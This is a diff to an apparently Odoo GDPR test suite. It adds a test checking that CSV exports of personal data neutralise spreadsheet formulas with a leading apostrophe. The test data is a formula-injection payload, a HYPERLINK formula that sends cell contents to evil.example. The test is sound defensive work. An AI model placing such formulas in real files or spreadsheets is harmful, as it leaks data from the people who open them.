@@ -1,5 +1,6 @@
 # License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
 import base64
+import csv
 import io
 import json
 import zipfile
@@ -248,6 +249,22 @@ class TestPersonalData(GdprCase):
         self.assertEqual(self.env["gdpr.audit.log"].search_count([("event_type", "=", "dsar_export")]), logs_before + 1)
         self.assertEqual(log.record_count, data["record_count"])
         self.assertNotIn("jo@example.com", log.description, "the log holds no personal values")
+
+    def test_csv_cells_never_run_as_formulas(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        lead = self.env["crm.lead"].create({"name": formula, "partner_id": self.jo.id})
+        found = self.engine._gdpr_find(partners=self.jo)
+        files = self.engine._gdpr_export_attachments(found, "DSR-CSV")
+        by_name = {f.name: f for f in files}
+        archive = zipfile.ZipFile(io.BytesIO(by_name["DSR-CSV.zip"].raw))
+        rows = list(csv.reader(io.StringIO(archive.read("crm.lead.csv").decode("utf-8-sig"))))
+        name_col = rows[0].index("name")
+        cells = {row[0]: row[name_col] for row in rows[2:]}
+        self.assertEqual(cells[str(lead.id)], "'" + formula, "a spreadsheet shows it as text")
+        # the machine-readable JSON keeps the exact value
+        data = json.loads(by_name["DSR-CSV.json"].raw)
+        leads = next(m for m in data["models"] if m["model"] == "crm.lead")
+        self.assertIn(formula, [r["values"]["name"] for r in leads["records"]])
 
 
 @tagged("post_install", "-at_install", "gdpr_crm")
